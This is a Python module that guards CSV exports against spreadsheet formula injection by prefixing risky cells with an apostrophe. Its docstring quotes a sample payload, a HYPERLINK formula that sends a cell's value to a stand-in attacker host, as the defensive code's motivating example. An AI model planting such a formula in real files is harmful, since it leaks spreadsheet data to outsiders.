"""CSV files a spreadsheet may open: cells that would run as formulas are written as text.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
versions, a tab or carriage return) as a formula: a note such as ``=HYPERLINK("https://evil.example/?"&A1,
"open")`` in an exported hash list or a review item's source would run in the admin's spreadsheet
(CSV injection, OWASP).  Every CSV the app writes goes through :func:`writer`, which prefixes such a cell
with an apostrophe (``'=HYPERLINK(...)``): spreadsheets show the text, and hide the apostrophe.  Plain
numbers (``-0.5``, ``+1e-3``) are left alone: they are no formula, and the files' readers parse them.
:func:`unescape` takes the apostrophe off again for this app's own readers (the hash-list import).
"""

from __future__ import annotations

import csv
import re
from typing import IO, Any, Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: a text starting with a formula character gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def unescape(cell: str) -> str:
    """A cell read back from a file :func:`writer` wrote: the apostrophe before a formula character removed."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(TRIGGERS) else cell


class _SafeWriter:
    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **kwargs: Any) -> _SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`."""
    return _SafeWriter(out, **kwargs)
